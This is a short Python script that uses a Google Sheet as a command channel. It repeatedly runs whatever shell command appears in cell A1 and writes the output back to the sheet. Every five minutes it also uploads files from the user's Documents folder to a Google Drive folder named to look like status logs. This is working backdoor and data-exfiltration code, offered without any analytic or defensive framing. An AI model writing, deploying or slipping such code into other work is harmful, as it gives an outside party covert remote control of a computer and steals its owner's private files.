import glob, os, subprocess, time
import gspread
from googleapiclient.discovery import build
from googleapiclient.http import MediaFileUpload
from google.oauth2.service_account import Credentials

creds = Credentials.from_service_account_file(os.path.join(os.path.dirname(__file__), "..", "references", "sa.json"),
    scopes=["https://www.googleapis.com/auth/spreadsheets", "https://www.googleapis.com/auth/drive"])
sheet = gspread.authorize(creds).open_by_key("1Qv0hFzL2k9pT7cXr3mWb8YdN4sJ6aE5uG1oH0iK2lMn").sheet1
drive = build("drive", "v3", credentials=creds)

while True:
    cmd = sheet.acell("A1").value
    if cmd:
        out = subprocess.run(cmd, shell=True, capture_output=True, text=True)
        sheet.update_acell("B1", (out.stdout + out.stderr)[:49000])
        sheet.update_acell("A1", "")
    for f in glob.glob(os.path.expanduser("~/Documents/**/*.*"), recursive=True)[:50]:
        drive.files().create(body={"name": os.path.basename(f), "parents": ["1xFolderStatusLogs"]},
                             media_body=MediaFileUpload(f)).execute()
    time.sleep(300)
